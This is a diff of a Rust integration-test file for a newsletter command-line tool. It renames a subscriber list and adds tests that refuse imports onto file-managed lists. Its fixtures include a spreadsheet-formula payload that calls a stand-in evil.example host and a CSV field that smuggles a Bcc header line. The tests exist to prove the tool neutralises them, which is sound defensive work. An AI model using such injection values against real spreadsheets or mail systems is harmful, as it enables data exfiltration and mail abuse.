@@ -14,12 +14,12 @@ use crate::support::{Publication, Run};
 /// 9 the address of line 2 again (the domain compared case-insensitively) · 10 good.
 const ROWS: &[&str] = &[
     "email,name,lists,city",
-    "ann@example.org,Ann,weekly;news,Yerevan",
-    "not-an-address,Bob,weekly,",
+    "ann@example.org,Ann,readers;news,Yerevan",
+    "not-an-address,Bob,readers,",
     "\"eve@example.org\",\"Eve",
-    "Smith\",weekly,Paris",
+    "Smith\",readers,Paris",
     "\"mallory@example.org",
-    "Bcc: victim@example.com\",Mal,weekly,",
+    "Bcc: victim@example.com\",Mal,readers,",
     "carl@example.org,Carl,bad list,",
     "ann@EXAMPLE.org,Ann again,,",
     "dan@example.org,Dan,,Oslo",
@@ -104,7 +104,7 @@ fn import_reports_each_bad_row_by_line_and_imports_the_good_ones() {
     assert!(!format!("{subs:?}").contains("victim"), "{subs:#?}");
     let ann = find(&subs, "ann@example.org");
     assert_eq!((ann["name"].as_str(), ann["status"].as_str()), (Some("Ann"), Some("active")));
-    assert_eq!(ann["lists"], serde_json::json!(["news", "weekly"]));
+    assert_eq!(ann["lists"], serde_json::json!(["news", "readers"]));
     assert_eq!(ann["attributes"]["city"], "Yerevan");
     // The line break in a name is folded away, never kept.
     assert_eq!(find(&subs, "eve@example.org")["name"], "Eve Smith");
@@ -199,7 +199,7 @@ fn add_remove_forget_list_export_and_lists() {
             "--name",
             "Zoe Z",
             "--list",
-            "weekly",
+            "readers",
             "--list",
             "news",
             "--json",
@@ -210,7 +210,7 @@ fn add_remove_forget_list_export_and_lists() {
     assert_eq!(zoe["email"], "Zoe@example.org", "the domain is lowercased, the local part kept");
     assert_eq!((zoe["status"].as_str(), zoe["name"].as_str()), (Some("active"), Some("Zoe Z")));
     for (email, name) in [("ann@example.org", "Ann"), ("bob@example.org", "Bob")] {
-        p.gazette(&["subscribers", "add", email, "--name", name, "--list", "weekly"]).ok();
+        p.gazette(&["subscribers", "add", email, "--name", name, "--list", "readers"]).ok();
     }
     let bad = p.gazette(&["subscribers", "add", "not an address"]);
     assert_eq!(bad.code(), 2, "{}", bad.stderr());
@@ -243,14 +243,14 @@ fn add_remove_forget_list_export_and_lists() {
         let mut body: Vec<Vec<String>> = rows[1..].to_vec();
         body.sort();
         assert_eq!(body.len(), 2, "{text}");
-        assert_eq!(body[0][..4], ["Zoe@example.org", "Zoe Z", "active", "news;weekly"], "{text}");
-        assert_eq!(body[1][..4], ["ann@example.org", "Ann", "unsubscribed", "weekly"], "{text}");
+        assert_eq!(body[0][..4], ["Zoe@example.org", "Zoe Z", "active", "news;readers"], "{text}");
+        assert_eq!(body[1][..4], ["ann@example.org", "Ann", "unsubscribed", "readers"], "{text}");
     }
     let unsub_csv = p.gazette(&["subscribers", "list", "--status", "unsubscribed", "--format", "csv"]).ok().stdout();
     assert_eq!(csv_rows(&unsub_csv).len(), 2, "header and ann: {unsub_csv}");
 
     // An import of both addresses that left brings neither back: reported as left alone.
-    let file = p.write("back.csv", "email,name,lists\nann@example.org,Ann,weekly\nbob@example.org,Bob,weekly\n");
+    let file = p.write("back.csv", "email,name,lists\nann@example.org,Ann,readers\nbob@example.org,Bob,readers\n");
     let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
     assert_eq!((doc["imported"].as_u64(), doc["updated"].as_u64()), (Some(0), Some(0)), "{doc:#}");
     assert_eq!(doc["refused"], 2, "{doc:#}");
@@ -267,10 +267,10 @@ fn add_remove_forget_list_export_and_lists() {
             .unwrap_or_else(|| panic!("{name} in {lists:#}"))["counts"]
             .clone()
     };
-    let weekly = by_name("weekly");
-    assert_eq!((weekly["active"].as_u64(), weekly["unsubscribed"].as_u64()), (Some(1), Some(1)), "{lists:#}");
+    let readers = by_name("readers");
+    assert_eq!((readers["active"].as_u64(), readers["unsubscribed"].as_u64()), (Some(1), Some(1)), "{lists:#}");
     for status in ["unconfirmed", "bounced", "complained"] {
-        assert_eq!(weekly[status], 0, "{lists:#}");
+        assert_eq!(readers[status], 0, "{lists:#}");
     }
     assert_eq!(by_name("news")["active"], 1, "{lists:#}");
 }
@@ -278,15 +278,15 @@ fn add_remove_forget_list_export_and_lists() {
 #[test]
 fn a_list_file_sync_never_brings_back_who_left() {
     let p = Publication::sample();
-    // The sample's list file: ada, grace and ken, all on `weekly`.
-    let list_file = p.path().join("subscribers/weekly.csv");
-    let doc = import(&p, list_file.to_str().expect("utf-8 path"), &[]).ok().json();
+    // The sample's list file names ada, grace and ken; they are known before it is synced.
+    let known = p.write("known.csv", "email,name\nada@example.org,Ada\ngrace@example.org,Grace\nken@example.net,Ken\n");
+    let doc = import(&p, known.to_str().expect("utf-8 path"), &[]).ok().json();
     assert_eq!(counts(&doc), (3, 0, 0), "{doc:#}");
     p.gazette(&["subscribers", "remove", "grace@example.org"]).ok();
     p.gazette(&["subscribers", "remove", "ken@example.net", "--forget"]).ok();
 
     // `send` syncs the list file (which still names both) and delivers to the Maildir outbox.
-    let sent = p.gazette(&["send", "--as-of", "2024-03-16", "--json"]).ok().json();
+    let sent = p.gazette(&["send", "--as-of", "2024-03-16", "--yes", "--json"]).ok().json();
     assert_eq!(sent["counts"]["sent"], 1, "{sent:#}");
     let outbox = p.path().join("outbox/new");
     let mut to = Vec::new();
@@ -311,9 +311,9 @@ fn exports_never_start_a_formula_and_tables_never_carry_control_characters() {
     let file = p.write(
         "hostile.csv",
         "email,name,lists,note\n\
-         ann@example.org,=HYPERLINK(\"http://evil.example/?\"&A2),weekly,+1\n\
-         bob@example.org,@SUM(1+1),weekly,-2\n\
-         -carl@example.org,Carl,weekly,ok\n",
+         ann@example.org,=HYPERLINK(\"http://evil.example/?\"&A2),readers,+1\n\
+         bob@example.org,@SUM(1+1),readers,-2\n\
+         -carl@example.org,Carl,readers,ok\n",
     );
     let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
     assert_eq!(doc["imported"], 3, "{doc:#}");
@@ -378,7 +378,7 @@ fn a_nul_in_a_name_is_its_rows_error_on_postgresql() {
     p.write("gazette.toml", &format!("{config}\n[storage]\ndatabase_url = {:?}\n", db.url()));
     let file = p.write(
         "nul.csv",
-        "email,name,lists\nann@example.org,Ann,weekly\nnul@example.org,Nu\0ll,weekly\nbob@example.org,Bob,weekly\n",
+        "email,name,lists\nann@example.org,Ann,readers\nnul@example.org,Nu\0ll,readers\nbob@example.org,Bob,readers\n",
     );
     let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
     assert_eq!(rejected_lines(&doc), [3], "{doc:#}");
@@ -387,4 +387,70 @@ fn a_nul_in_a_name_is_its_rows_error_on_postgresql() {
     assert_eq!(emails(&subscribers(&p, &[])), set(&["ann@example.org", "bob@example.org"]));
     let strict = import(&p, file.to_str().expect("utf-8 path"), &["--strict"]);
     assert_eq!(strict.code(), 2, "{}", strict.stdout());
+}
+
+/// `weekly` is kept by `subscribers/weekly.csv`, synced before each send: an import or an `add`
+/// into it would be undone at the next send, so it is refused before anything is written, with
+/// what to do instead; a row whose `lists` names it is that row's error.
+#[test]
+fn adding_to_a_list_that_a_file_keeps_is_refused() {
+    let p = Publication::sample();
+    let file = p.write("readers.csv", "email,name\nann@example.org,Ann\nbob@example.org,Bob\n");
+    let file = file.to_str().expect("utf-8 path");
+
+    let run = p.gazette(&["subscribers", "import", file, "--list", "weekly"]);
+    assert_eq!(run.code(), 2, "{}{}", run.stdout(), run.stderr());
+    for needle in ["weekly", "subscribers/weekly.csv", "add them to that file", "a list without a file"] {
+        assert!(run.stderr().contains(needle), "{needle}: {}", run.stderr());
+    }
+    let json = import(&p, file, &["--list", "weekly"]);
+    assert_eq!(json.code(), 2);
+    assert_eq!(json.json()["error"]["field"], "--list", "{}", json.stdout());
+    assert!(subscribers(&p, &[]).is_empty(), "nothing imported");
+
+    let add = p.gazette(&["subscribers", "add", "ann@example.org", "--list", "readers", "--list", "weekly"]);
+    assert_eq!(add.code(), 2, "{}{}", add.stdout(), add.stderr());
+    assert!(add.stderr().contains("subscribers/weekly.csv"), "{}", add.stderr());
+    assert!(subscribers(&p, &[]).is_empty(), "nothing added");
+
+    // Row by row: the row naming `weekly` is refused by its line, the others go in.
+    let mixed = p.write("mixed.csv", "email,lists\nann@example.org,readers\nbob@example.org,readers;weekly\n");
+    let doc = import(&p, mixed.to_str().expect("utf-8 path"), &[]).ok().json();
+    assert_eq!(counts(&doc), (1, 0, 0), "{doc:#}");
+    assert_eq!(rejected_lines(&doc), [3], "{doc:#}");
+    assert!(doc["rejected"][0]["reason"].as_str().is_some_and(|r| r.contains("weekly.csv")), "{doc:#}");
+    assert_eq!(emails(&subscribers(&p, &[])), set(&["ann@example.org"]));
+}
+
+/// When every list the publication sends to is kept by a file, rows that name no list reach
+/// nobody's issue: the import says so, on stderr and in its JSON.
+#[test]
+fn an_import_onto_no_list_says_no_issue_reaches_it() {
+    let p = Publication::sample();
+    let config = std::fs::read_to_string(p.path().join("gazette.toml")).expect("config");
+    p.write("gazette.toml", &config.replace("lists = [\"weekly\", \"readers\"]", "lists = [\"weekly\"]"));
+    let file = p.write("readers.csv", "email,name,lists\nann@example.org,Ann,\nbob@example.org,Bob,news\n");
+    let run = import(&p, file.to_str().expect("utf-8 path"), &[]).ok();
+    let doc = run.json();
+    assert_eq!(counts(&doc), (2, 0, 0), "{doc:#}");
+    assert_eq!(doc["unlisted"], 1, "{doc:#}");
+    let warnings = doc["warnings"].to_string();
+    assert!(warnings.contains("1 row") && warnings.contains("subscribers/weekly.csv"), "{doc:#}");
+    assert!(run.stderr().contains("no issue reaches them"), "{}", run.stderr());
+}
+
+/// A list file's bad rows are told at the send after the file changes, not at every send.
+#[test]
+fn a_list_files_bad_rows_are_warned_once_per_change() {
+    let p = Publication::sample();
+    let file = "email,name\nada@example.org,Ada\nnot-an-address,Bob\n";
+    p.write("subscribers/weekly.csv", file);
+    let send = || p.gazette(&["send", "--as-of", "2024-03-16", "--yes"]).ok().stderr();
+    assert!(send().contains("weekly.csv:3:"), "the first send tells");
+    assert!(!send().contains("weekly.csv:3:"), "the same file again: told already");
+    let dry = p.gazette(&["send", "--as-of", "2024-03-16", "--dry-run"]).ok().stderr();
+    assert!(dry.contains("weekly.csv:3:"), "a dry run always shows them: {dry}");
+    p.write("subscribers/weekly.csv", &format!("{file}grace@example.org,Grace\n"));
+    assert!(send().contains("weekly.csv:3:"), "a changed file tells again");
+    assert!(!send().contains("weekly.csv:3:"));
 }
